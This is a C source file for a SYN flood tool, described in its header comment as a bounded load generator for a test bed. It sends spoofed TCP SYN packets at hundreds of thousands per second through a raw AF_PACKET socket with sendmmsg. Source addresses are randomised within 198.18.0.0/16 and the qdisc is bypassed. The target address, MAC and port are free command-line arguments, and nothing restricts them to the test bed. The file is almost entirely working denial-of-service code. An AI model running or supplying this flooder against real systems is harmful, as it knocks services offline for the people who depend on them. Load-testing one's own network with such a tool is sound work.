/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A bounded SYN flood for the test bed: TCP SYNs from random sources in
 * 198.18.0.0/16 (never 198.18.0.0/24, where the real hosts are) to one
 * address and port, sent with sendmmsg() on an AF_PACKET socket, as fast as
 * the kernel takes them or at a given rate, for a given time. Python's raw
 * sockets reach a few tens of thousands of frames per second; this is for
 * the hundreds of thousands.
 *
 *   syn_flood IFACE DST_MAC DST_IP DST_PORT SECONDS [PPS]   (PPS 0 or absent: no limit)
 *
 * Prints "sent N frames in S s (R pps), E errors" and exits 0 when it sent any.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME_LEN (14 + 20 + 24) /* Ethernet, IPv4, TCP with an MSS option */
#define N_FRAMES 65536           /* distinct SYNs, sent round and round */
#define BATCH 64

static uint8_t frames[N_FRAMES][FRAME_LEN];

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint64_t rng(void)
{
	/* xorshift64*: enough to scatter sources, ports and sequence numbers */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 2685821657736338717ull;
}

static uint16_t csum(const void *p, size_t len, uint32_t sum)
{
	const uint8_t *b = p;
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (len & 1)
		sum += (uint32_t)(b[len - 1] << 8);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void build(uint8_t *f, const uint8_t dmac[6], const uint8_t smac[6], uint32_t dst,
		  uint16_t dport)
{
	memcpy(f, dmac, 6);
	memcpy(f + 6, smac, 6);
	f[12] = 0x08;
	f[13] = 0x00;
	/* 198.18.1.0 .. 198.18.255.255: inside the test bed's range, none of its hosts */
	uint32_t src = 0xc6120000u | (uint32_t)(256 + rng() % (65536 - 256));
	struct iphdr *ip = (struct iphdr *)(f + 14);
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons(20 + 24);
	ip->id = (uint16_t)rng();
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	ip->saddr = htonl(src);
	ip->daddr = dst;
	ip->check = htons(csum(ip, 20, 0));
	struct tcphdr *th = (struct tcphdr *)(f + 34);
	th->source = htons((uint16_t)(1024 + rng() % 64000));
	th->dest = htons(dport);
	th->seq = (uint32_t)rng();
	th->doff = 6;
	th->syn = 1;
	th->window = htons(64240);
	uint8_t *opt = f + 54;
	opt[0] = 2; /* MSS 1460 */
	opt[1] = 4;
	opt[2] = 0x05;
	opt[3] = 0xb4;
	/* pseudo-header: source, destination, protocol, TCP length */
	uint32_t sum = (src >> 16) + (src & 0xffff) + (ntohl(dst) >> 16) + (ntohl(dst) & 0xffff) +
		       IPPROTO_TCP + 24;
	th->check = htons(csum(th, 24, sum));
}

int main(int argc, char **argv)
{
	if (argc < 6) {
		fprintf(stderr, "usage: %s IFACE DST_MAC DST_IP DST_PORT SECONDS [PPS]\n", argv[0]);
		return 2;
	}
	uint8_t dmac[6], smac[6];
	struct in_addr dst;
	if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &dmac[0], &dmac[1], &dmac[2],
		   &dmac[3], &dmac[4], &dmac[5]) != 6 ||
	    inet_pton(AF_INET, argv[3], &dst) != 1) {
		fprintf(stderr, "bad MAC or address\n");
		return 2;
	}
	uint16_t dport = (uint16_t)atoi(argv[4]);
	double seconds = atof(argv[5]);
	double pps = argc > 6 ? atof(argv[6]) : 0;

	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
	if (fd < 0) {
		perror("socket");
		return 1;
	}
	struct ifreq ifr;
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", argv[1]);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) {
		perror("SIOCGIFHWADDR");
		return 1;
	}
	memcpy(smac, ifr.ifr_hwaddr.sa_data, 6);
	struct sockaddr_ll sll = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = (int)if_nametoindex(argv[1]),
		.sll_halen = 6,
	};
	memcpy(sll.sll_addr, dmac, 6);
	if (sll.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
		perror("bind");
		return 1;
	}
	/* Frames go straight to the driver: no qdisc to queue (and drop) them behind our back. */
	int one = 1;
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));

	rng_state ^= (uint64_t)getpid() << 32 ^ (uint64_t)time(NULL);
	for (unsigned int i = 0; i < N_FRAMES; i++)
		build(frames[i], dmac, smac, dst.s_addr, dport);

	struct iovec iov[BATCH];
	struct mmsghdr msgs[BATCH];
	memset(msgs, 0, sizeof(msgs));
	for (unsigned int i = 0; i < BATCH; i++) {
		iov[i].iov_len = FRAME_LEN;
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	uint64_t sent = 0, errors = 0;
	unsigned int next = 0;
	double start = now_s(), end = start + seconds;
	for (;;) {
		double t = now_s();
		if (t >= end)
			break;
		if (pps > 0 && (double)sent > (t - start) * pps) {
			struct timespec pause = {0, 50000};
			nanosleep(&pause, NULL);
			continue;
		}
		for (unsigned int i = 0; i < BATCH; i++) {
			iov[i].iov_base = frames[next];
			next = (next + 1) % N_FRAMES;
		}
		int n = sendmmsg(fd, msgs, BATCH, 0);
		if (n < 0) {
			errors++;
			if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
				perror("sendmmsg");
				break;
			}
			continue;
		}
		sent += (uint64_t)n;
	}
	double took = now_s() - start;
	printf("sent %llu frames in %.2f s (%.0f pps), %llu errors\n", (unsigned long long)sent,
	       took, (double)sent / took, (unsigned long long)errors);
	close(fd);
	return sent > 0 ? 0 : 1;
}
